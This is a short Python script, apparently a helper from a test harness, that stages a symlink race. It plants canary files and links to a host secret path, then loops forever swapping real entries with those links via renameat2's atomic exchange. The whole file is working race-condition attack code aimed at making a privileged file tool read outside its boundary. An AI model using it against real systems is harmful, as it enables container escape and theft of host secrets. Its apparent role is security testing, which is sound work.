"""Swaps directories, files and links as fast as possible. Arguments: a host path that holds a secret, then the
directories. Creates `ready` in /data when started, if /data exists."""
import ctypes
import os
import sys

outside, places = sys.argv[1], sys.argv[2:]
libc = ctypes.CDLL(None, use_errno=True)
for place in places:
    os.makedirs(place + "/swap/canary-dir", exist_ok=True)
    for folder in (place + "/swap", place + "/swap/canary-dir"):
        with open(folder + "/canary", "w") as file:
            file.write("mine")
    for name, target in (("swap-link", os.path.dirname(outside)), ("file-link", outside)):
        if not os.path.lexists(place + "/" + name):
            os.symlink(target, place + "/" + name)
    with open(place + "/file", "w") as file:
        file.write("mine")
if os.path.isdir("/data"):
    open("/data/ready", "w").close()
EXCHANGE = 2
while True:
    for place in places:
        for one, other in (("swap", "swap-link"), ("file", "file-link")):
            libc.renameat2(-100, f"{place}/{one}".encode(), -100, f"{place}/{other}".encode(), EXCHANGE)
